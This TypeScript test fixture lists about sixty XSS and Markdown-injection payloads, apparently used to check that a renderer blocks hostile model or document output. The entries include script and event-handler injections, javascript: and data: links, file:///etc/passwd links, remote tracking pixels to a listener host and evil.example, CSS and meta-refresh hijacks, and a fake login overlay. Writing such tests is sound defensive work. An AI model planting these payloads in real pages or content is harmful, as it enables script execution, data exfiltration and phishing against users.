/** What a hostile model or document writes: each of these tries to run, to fetch, or to look like the app itself. */
import { CANARY } from './witness';

/**
 * @param host - where the stranger listens who must see no request.
 * @returns what is tried, and the Markdown that tries it.
 */
export function payloads(host: string): [string, string][] {
  const there = `http://${host}`;
  const run = `${CANARY}(1)`;
  return [
    ['a script', `<script>${run}</script>`],
    ['a script from elsewhere', `<script src="${there}/a.js"></script>`],
    ['a script in a comment that ends early', `<!--> <script>${run}</script> -->`],
    ['a script in mixed letters and odd spaces', `<ScRiPt\n/x>${run}</sCrIpT >`],
    ['an image with a handler', `<img src=x onerror="${run}">`],
    ['an image without quotes', `<img/src=x/onerror=${run}>`],
    ['a body with a handler', `<body onload=${run} onfocus=${run}>`],
    ['a field that takes the focus', `<input autofocus onfocus=${run}>`],
    ['details that open', `<details open ontoggle=${run}><summary>a</summary></details>`],
    ['a marquee', `<marquee onstart=${run}>a</marquee>`],
    ['a video', `<video src="${there}/v.mp4" onerror=${run} autoplay></video>`],
    ['sound', `<audio src="${there}/a.mp3" autoplay></audio>`],
    ['an animation', `<p style="animation:x" onanimationstart=${run}>a</p>`],
    ['an SVG with a script', `<svg><script>${run}</script></svg>`],
    ['an SVG that loads', `<svg onload=${run}><use href="${there}/a.svg#x"/></svg>`],
    ['an SVG with foreign content', `<svg><foreignObject><iframe src="javascript:${run}"></foreignObject></svg>`],
    ['MathML', `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`],
    ['a frame', `<iframe src="${there}/"></iframe>`],
    ['a frame of its own', `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`],
    ['an object', `<object data="${there}/o"></object><embed src="${there}/e">`],
    ['a form', `<form action="${there}/f"><button type="submit">Approve</button></form>`],
    ['a button that acts as another form', `<button formaction="javascript:${run}">Approve</button>`],
    ['a base address', `<base href="${there}/">`],
    ['a redirect', `<meta http-equiv="refresh" content="0;url=${there}/m">`],
    ['a policy of its own', `<meta http-equiv="Content-Security-Policy" content="default-src *">`],
    ['a style sheet', `<link rel="stylesheet" href="${there}/s.css"><link rel="prefetch" href="${there}/p">`],
    ['a style element', `<style>*{background:url(${there}/b)!important;display:none}</style>`],
    ['an import of styles', `<style>@import "${there}/i.css";@font-face{font-family:x;src:url(${there}/f)}</style>`],
    ['a style attribute', `<div style="position:fixed;inset:0;z-index:99999;background:url(${there}/c)">Log in</div>`],
    ['names of our classes', `<div class="recovery approval md-link mantine-Button-root" id="root">Approve</div>`],
    [
      'names of our variables',
      `<a id="shell"></a><form name="shell"><input name="request"></form><img name="getElementById">`,
    ],
    ['a template', `<template shadowrootmode="open"><script>${run}</script></template>`],
    ['a webview', `<webview src="${there}/w" nodeintegration></webview>`],
    ['a portal', `<portal src="${there}/"></portal>`],
    [
      'CDATA and instructions',
      `<![CDATA[<script>${run}</script>]]><?xml-stylesheet href="${there}/x"?><!DOCTYPE a SYSTEM "${there}">`,
    ],
    ['HTML in a table', `| a |\n|---|\n| <img src=x onerror=${run}> |`],
    ['HTML in a heading', `# <img src=x onerror=${run}> a`],
    ['HTML by entities', `&lt;script&gt;${run}&lt;/script&gt; &#60;img src=x onerror=${run}&#62;`],
    ['HTML in the name of a language', `\`\`\`"><img/src=x/onerror=${run}>\ncode\n\`\`\``],
    ['HTML in code', `\`<img src=x onerror=${run}>\`\n\n\`\`\`html\n<script>${run}</script>\n\`\`\``],
    ['HTML in a footnote', `a[^1]\n\n[^1]: <img src=x onerror=${run}>`],
    ['a link that runs', `[a](javascript:${run}) [b](JaVaScRiPt:${run}) [c](&#106;avascript:${run})`],
    [
      'a link that runs, with odd spaces',
      `[a](<java\tscript:${run}>) [b](<\u0001javascript:${run}>) [c](java&NewLine;script:${run})`,
    ],
    ['a link that runs as VBScript', `[a](vbscript:${run}) <vbscript:${run}>`],
    ['a link that runs, by reference', `[a][r]\n\n[r]: javascript:${run}`],
    ['a link that runs, as an address', `<javascript:${run}>`],
    ['a link to a page made of data', `[a](data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=)`],
    ['a link to a file', `[a](file:///etc/passwd) [b](\\\\\\\\server\\\\share) [c](smb://server/share)`],
    [
      'a link to a program',
      `[a](ms-msdt:/id) [b](vscode://file/etc/passwd) [c](app://bundle/index.html) [d](blob:app://bundle/x)`,
    ],
    ['a link to this machine', `[a](${there}/l) ${there}/bare www.${host}/w <${there}/auto>`],
    ['a title that breaks out', `[a](${there}/t "x' onmouseover='${run}") ![a](${there}/t "\\" onload=\\"${run}")`],
    ['a remote image', `![pixel](${there}/pixel.png) ![p](//${host}/p.png) ![p](https://evil.example/p.png)`],
    ['a remote image, by reference', `![pixel][p]\n\n[p]: ${there}/r.png`],
    ['a remote image in a link', `[![pixel](${there}/i.png)](${there}/l)`],
    ['an image made of data', `![a](data:image/svg+xml,<svg/onload=${run}>) ![b](data:image/png;base64,AAAA)`],
    ['an image of a file', `![a](file:///etc/passwd) ![b](app://bundle/index.html)`],
    ['an image that runs', `![a](javascript:${run})`],
    [
      'a hint to fetch early',
      `<link rel="dns-prefetch preconnect" href="//${host}"><a href="${there}/" ping="${there}/ping">a</a>`,
    ],
    ['a picture with sources', `<picture><source srcset="${there}/s.png"><img srcset="${there}/t.png 2x"></picture>`],
    ['a table with a background', `<table background="${there}/t.png"><td background="${there}/u.png">`],
    ['letters that turn the others around', `\u202e${there}/evil\u202c \u2066a\u2067b \u200f\u061c`],
  ];
}
